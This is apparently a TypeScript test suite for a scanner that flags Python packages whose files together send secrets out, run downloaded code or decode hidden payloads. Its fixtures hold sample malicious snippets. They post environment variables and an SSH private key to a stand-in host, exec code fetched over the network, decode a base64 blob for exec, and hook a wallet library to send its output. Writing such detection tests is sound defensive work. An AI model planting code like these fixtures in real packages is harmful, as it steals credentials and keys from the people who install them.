import { capabilitiesOfWheel } from './pypi-delta.ts';

type Files = Readonly<Record<string, string>>;

const before: Files = { 'thing/__init__.py': 'x = 1\n' };
const together = new Set(['download-and-run', 'encoded-payload', 'secrets-sent']);

async function combined(after: Files, old: Files = before): Promise<readonly string[]> {
  const found = await capabilitiesOfWheel(after, old);
  return [...new Set(found.filter((one) => together.has(one.kind)).map((one) => `${one.kind} ${one.path}`))];
}

const gather = 'import os\ndef gather():\n    return {k: v for k, v in os.environ.items()}\n';
const send = "import requests\ndef send(data):\n    requests.post('https://x.example/', json=data)\n";

const found: readonly (readonly [string, string, Files])[] = [
  [
    'an environment that one file copies and another sends',
    'secrets-sent thing/net.py',
    {
      'thing/__init__.py': 'from .collect import gather\nfrom .net import send\nsend(gather())\n',
      'thing/collect.py': gather,
      'thing/net.py': send,
    },
  ],
  [
    'modules as a whole, from their package and by their full names',
    'secrets-sent thing/net.py',
    {
      'thing/__init__.py': 'from . import collect\nimport thing.net as n\nn.send(collect.gather())\n',
      'thing/collect.py': gather,
      'thing/net.py': send,
    },
  ],
  [
    'a module reached through the name of its package',
    'secrets-sent thing/net.py',
    {
      'thing/__init__.py': '',
      'thing/main.py': 'import thing.net\nimport thing.collect\nthing.net.send(thing.collect.gather())\n',
      'thing/collect.py': gather,
      'thing/net.py': send,
    },
  ],
  [
    'names that a package passes on',
    'secrets-sent thing/inner/net.py',
    {
      'thing/__init__.py': 'from .inner import collect_all, post\npost(collect_all())\n',
      'thing/inner/__init__.py': 'from .collect import gather as collect_all\nfrom .net import send as post\n',
      'thing/inner/collect.py': gather,
      'thing/inner/net.py': send,
    },
  ],
  [
    'names that are taken all at once',
    'secrets-sent thing/net.py',
    {
      'thing/__init__.py': 'from .inner import *\nsend(gather())\n',
      'thing/inner.py': 'from .collect import *\nfrom .net import *\n',
      'thing/collect.py': gather,
      'thing/net.py': send,
    },
  ],
  [
    'a value of a module',
    'secrets-sent thing/net.py',
    {
      'thing/__init__.py': 'from . import net\n',
      'thing/state.py': 'import os\nALL = dict(os.environ)\n',
      'thing/net.py': "import requests\nfrom . import state\nrequests.post('https://x.example/', json=state.ALL)\n",
    },
  ],
  [
    'methods of a class and what it keeps',
    'secrets-sent thing/net.py',
    {
      'thing/__init__.py': 'from .net import Client\nClient().flush()\n',
      'thing/collect.py':
        "from pathlib import Path\nclass Keys:\n    where = Path.home() / '.ssh' / 'id_rsa'\n    def read(self):\n        return self.where.read_text()\n",
      'thing/net.py':
        "import requests\nfrom .collect import Keys\nclass Client:\n    def __init__(self):\n        self.keys = Keys()\n    def flush(self):\n        requests.post('https://x.example/', data=self.keys.read())\n",
    },
  ],
  [
    'a function that is handed to another file',
    'secrets-sent thing/net.py',
    {
      'thing/__init__.py': 'from .net import run\nfrom .collect import gather\nrun(gather)\n',
      'thing/collect.py': gather,
      'thing/net.py': "import requests\ndef run(make):\n    requests.post('https://x.example/', json=make())\n",
    },
  ],
  [
    'a thread that runs a function of another file',
    'secrets-sent thing/net.py',
    {
      'thing/__init__.py':
        'import threading\nfrom .net import send\nfrom .collect import gather\nthreading.Thread(target=send, args=(gather(),)).start()\n',
      'thing/collect.py': gather,
      'thing/net.py': send,
    },
  ],
  [
    'an answer that another file runs',
    'download-and-run thing/run.py',
    {
      'thing/__init__.py': 'from .load import fetch\nfrom .run import start\nstart(fetch())\n',
      'thing/load.py': "import urllib.request as r\ndef fetch():\n    return r.urlopen('https://x.example/').read()\n",
      'thing/run.py': 'def start(code):\n    exec(code)\n',
    },
  ],
  [
    'a text that another file decodes',
    'encoded-payload thing/run.py',
    {
      'thing/__init__.py': 'from . import run\n',
      'thing/turn.py': 'import base64\ndef turn(text):\n    return base64.b64decode(text[::-1])\n',
      'thing/run.py': 'from .turn import turn\nfrom .data import BLOB\nexec(turn(BLOB))\n',
      'thing/data.py': "BLOB = '=oHbnR3c'\n",
    },
  ],
  [
    'what a class of another library made, which a replaced method hands on',
    'secrets-sent thing/net.py',
    {
      'thing/__init__.py':
        "from ledger import wallets as w\nfrom threading import Thread\nfrom .net import send\ndef watch(name):\n    first = getattr(w.Wallet, name)\n    def call(*args):\n        made = first(*args)\n        Thread(target=send, args=(bytes(made),)).start()\n        return made\n    return call\nfor name in ('load', 'make'):\n    setattr(w.Wallet, name, watch(name))\n",
      'thing/net.py': send,
    },
  ],
];

describe('files of Python read together show', () => {
  it.each(found)('%s', async (_name, capability, files) => {
    expect(await combined(files)).toContain(capability);
  });

  it('where a value begins and where it ends', async () => {
    const [, , files] = found[0] ?? ['', '', {}];
    const capability = (await capabilitiesOfWheel(files, before)).find((one) => one.kind === 'secrets-sent');
    expect(capability).toMatchObject({ path: 'thing/net.py', line: 3 });
    expect(capability?.evidence).toContain('thing/collect.py: os.environ');
    expect(capability?.evidence).toContain('requests.post(');
  });

  it('what a changed file hands to one that is as before', async () => {
    const old = { 'thing/__init__.py': 'from .net import send\n', 'thing/net.py': send };
    const after = { ...old, 'thing/__init__.py': 'import os\nfrom .net import send\nsend(dict(os.environ))\n' };
    expect(await combined(after, old)).toEqual(['secrets-sent thing/net.py']);
  });
});

/** Packages whose files have both halves, as ordinary ones do. */
const still: readonly (readonly [string, Files])[] = [
  [
    'the client of a cloud that signs in with variables of its own',
    {
      'thing/__init__.py': 'from .session import Session\n',
      'thing/credentials.py':
        "import os\nclass Provider:\n    KEY = 'AWS_ACCESS_KEY_ID'\n    def __init__(self, environ=None):\n        self.environ = environ or os.environ\n    def load(self):\n        return self.environ.get(self.KEY), self.environ.get('AWS_SECRET_ACCESS_KEY')\n",
      'thing/session.py':
        'from .credentials import Provider\nfrom .http import Sender\nclass Session:\n    def __init__(self):\n        self.provider = Provider()\n        self.sender = Sender()\n    def call(self, body):\n        key, secret = self.provider.load()\n        return self.sender.send(body, key, secret)\n',
      'thing/http.py':
        "import urllib3, hmac\nclass Sender:\n    def __init__(self):\n        self.pool = urllib3.PoolManager()\n    def send(self, body, key, secret):\n        sign = hmac.new(secret.encode(), body, 'sha256').hexdigest()\n        return self.pool.request('POST', 'https://api.example/', body=body, headers={'authorization': key + sign})\n",
    },
  ],
  [
    'settings of a proxy that are taken from the environment',
    {
      'thing/__init__.py': 'from .api import get\n',
      'thing/utils.py':
        "import os\ndef proxies():\n    return {k[:-6]: v for k, v in os.environ.items() if k.lower().endswith('_proxy')}\ndef no_proxy():\n    return os.environ.get('NO_PROXY', '')\n",
      'thing/api.py':
        'import http.client\nfrom .utils import no_proxy\ndef get(host):\n    if host in no_proxy():\n        return None\n    c = http.client.HTTPSConnection(host)\n    c.request("GET", "/")\n    return c.getresponse().read()\n',
    },
  ],
  [
    'files of settings that are read into the environment',
    {
      'thing/__init__.py': 'from .main import load\n',
      'thing/parser.py': "def parse(text):\n    return dict(line.split('=', 1) for line in text.splitlines())\n",
      'thing/main.py':
        'import os\nfrom .parser import parse\ndef load(path):\n    for k, v in parse(open(path).read()).items():\n        os.environ.setdefault(k, v)\n    return dict(os.environ)\n',
      'thing/cli.py':
        'import os, subprocess\nfrom .main import load\ndef run(command):\n    env = load(".env")\n    return subprocess.Popen(command, env=env).wait()\n',
    },
  ],
  [
    'reports of errors with the name of the machine',
    {
      'thing/__init__.py': 'from .client import capture\n',
      'thing/context.py':
        "import socket, os, platform\ndef context():\n    return {'server_name': socket.gethostname(), 'runtime': platform.python_version(), 'release': os.environ.get('RELEASE')}\n",
      'thing/client.py':
        "import json, urllib.request\nfrom .context import context\ndef capture(error, dsn):\n    body = json.dumps({'error': str(error), **context()}).encode()\n    urllib.request.urlopen(urllib.request.Request(dsn, body))\n",
    },
  ],
  [
    'a store that unpacks what it has packed',
    {
      'thing/__init__.py': 'from .memory import Memory\n',
      'thing/store.py':
        'import pickle, zlib\ndef load(path):\n    with open(path, "rb") as f:\n        return pickle.loads(zlib.decompress(f.read()))\n',
      'thing/memory.py':
        'import subprocess\nfrom .store import load\nclass Memory:\n    def call(self, f, path):\n        return load(path)\n    def version(self):\n        return subprocess.check_output(["git", "describe"])\n',
    },
  ],
  [
    'names that are the same under two versions of the language',
    {
      'thing/__init__.py': 'from .compat import exec_, urlopen, moves\n',
      'thing/compat.py':
        "import sys, builtins\nfrom . import moves\nexec_ = getattr(builtins, 'exec')\ntry:\n    from urllib.request import urlopen\nexcept ImportError:\n    from urllib2 import urlopen\n",
      'thing/moves.py': 'import importlib\ndef load(name):\n    return importlib.import_module(name)\n',
    },
  ],
  [
    'a class of another library whose calls are measured',
    {
      'thing/__init__.py':
        "import time\nfrom db.client import core\nfrom .report import report\ndef measured(name):\n    first = getattr(core.Cursor, name)\n    def call(*args, **kwargs):\n        start = time.time()\n        result = first(*args, **kwargs)\n        report(name, time.time() - start, result.rowcount)\n        return result\n    return call\nfor name in ('execute', 'fetch'):\n    setattr(core.Cursor, name, measured(name))\n",
      'thing/report.py':
        "import json, urllib.request\ndef report(name, seconds, rows):\n    body = json.dumps({'name': name, 'seconds': seconds, 'rows': rows}).encode()\n    urllib.request.urlopen('https://apm.example/', body)\n",
    },
  ],
];

describe('files of Python read together show nothing in', () => {
  it.each(still)('%s', async (_name, files) => {
    expect(await combined(files)).toEqual([]);
  });
});
